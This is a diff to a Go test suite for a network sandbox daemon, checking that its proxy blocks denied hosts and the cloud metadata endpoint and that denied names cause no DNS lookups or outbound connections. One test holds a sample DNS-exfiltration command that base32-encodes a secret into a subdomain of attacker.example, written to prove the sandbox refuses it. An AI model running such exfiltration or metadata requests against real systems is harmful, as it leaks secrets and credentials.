@@ -242,7 +242,7 @@ allowLocalOutbound = [%d, %d]
 	}{
 		{"allowed via proxy", `curl -sS --noproxy '' -x http://127.0.0.1:3128 http://127.0.0.1:` + p + `/`, `WEB-OK host=127.0.0.1:` + p},
 		{"allowed via proxy, [::1] relay", `curl -sS --noproxy '' -x 'http://[::1]:3128' http://localhost:` + p + `/`, `WEB-OK host=localhost:` + p},
-		{"allowed via SOCKS", `curl -sS --socks5-hostname 127.0.0.1:1080 http://localhost:` + p + `/`, `WEB-OK`},
+		{"allowed via SOCKS", `curl -sS --noproxy '' --socks5-hostname 127.0.0.1:1080 http://localhost:` + p + `/`, `WEB-OK`},
 		{"not allowed: 403 and non-zero exit", `curl -sS -o /dev/null -w '%{http_connect}\n' https://not-allowed.example/; echo "exit=$?"`, `(?s)403.*exit=56`},
 		{"P-09 allowed name, port 22", `curl -sS -o /dev/null -w '%{http_connect}\n' https://allowed.example:22/`, `403`},
 		{"P-08 metadata", `curl -s -o /dev/null -w '%{http_code}\n' --noproxy '' -x http://127.0.0.1:3128 http://169.254.169.254/latest/meta-data/`, `^403`},
@@ -276,12 +276,15 @@ allowLocalOutbound = [%d, %d]
 }
 
 // TestSOCKSNoDNSLeak runs the daemon under strace: a SOCKS or HTTP request
-// for a denied name makes no DNS query; an allowed name does (so the
-// capture can see queries).
+// for a denied name makes the daemon connect nowhere (no DNS query, no
+// dial); an allowed request to a loopback server shows up in the same
+// capture (so the capture can see the daemon's connections). Nothing here
+// sends a packet off the machine.
 func TestSOCKSNoDNSLeak(t *testing.T) {
 	strace, err := exec.LookPath("strace")
 	sandboxtest.Require(t, err == nil, "needs strace")
-	e := newEnv(t, "[network]\nallowedDomains = [\"dnsprobe.invalid\"]\n")
+	port := web(t)
+	e := newEnv(t, fmt.Sprintf("[network]\nallowLocalOutbound = [%d]\n", port))
 	log := filepath.Join(e.Base, "strace.log")
 	cmd := exec.Command(strace, "-f", "-qq", "-e", "trace=connect,sendto,sendmmsg", "-o", log, e.Fence, "daemon", "run")
 	cmd.Env = e.Vars
@@ -296,9 +299,15 @@ func TestSOCKSNoDNSLeak(t *testing.T) {
 		}
 		time.Sleep(20 * time.Millisecond)
 	}
-	dnsQueries := func() int {
+	inetConnects := func() []string {
 		b, _ := os.ReadFile(log)
-		return strings.Count(string(b), "htons(53)")
+		var out []string
+		for _, l := range strings.Split(string(b), "\n") {
+			if strings.Contains(l, "connect(") && (strings.Contains(l, "AF_INET") || strings.Contains(l, "htons(53)")) {
+				out = append(out, l)
+			}
+		}
+		return out
 	}
 	r := e.Sh(`curl -s --socks5-hostname 127.0.0.1:1080 "http://$(echo secret | base32 | tr -d =).leak.attacker.example/"; echo socks=$?
 curl -s -o /dev/null -w '%{http_connect}\n' https://y.leak.attacker.example/; curl -s -o /dev/null -w '%{http_code}\n' http://z.leak.attacker.example/`)
@@ -306,15 +315,19 @@ curl -s -o /dev/null -w '%{http_connect}\n' https://y.leak.attacker.example/; cu
 		t.Fatalf("denied names were not refused:\n%s", r.Out())
 	}
 	time.Sleep(200 * time.Millisecond)
-	if n := dnsQueries(); n != 0 {
-		b, _ := os.ReadFile(log)
-		t.Fatalf("denied names caused %d DNS connections:\n%s", n, b)
+	if c := inetConnects(); len(c) != 0 {
+		t.Fatalf("denied names made the daemon connect out (DNS or dial):\n%s", strings.Join(c, "\n"))
 	}
-	e.Sh(`curl -s -m 5 --socks5-hostname 127.0.0.1:1080 http://dnsprobe.invalid/; curl -s -m 5 -o /dev/null https://dnsprobe.invalid/`)
+	r = e.Sh(fmt.Sprintf(`curl -s -m 5 --noproxy '' --socks5-hostname 127.0.0.1:1080 http://localhost:%d/`, port))
 	time.Sleep(200 * time.Millisecond)
-	if n := dnsQueries(); n == 0 {
+	want := fmt.Sprintf("htons(%d)", port)
+	var seen bool
+	for _, l := range inetConnects() {
+		seen = seen || strings.Contains(l, want)
+	}
+	if !strings.Contains(r.Stdout, "WEB-OK") || !seen {
 		b, _ := os.ReadFile(log)
-		t.Fatalf("control: an allowed name made no DNS query; the capture sees nothing:\n%.2000s", b)
+		t.Fatalf("control: the allowed request (%q) does not show in the capture:\n%.3000s", r.Out(), b)
 	}
 }
 
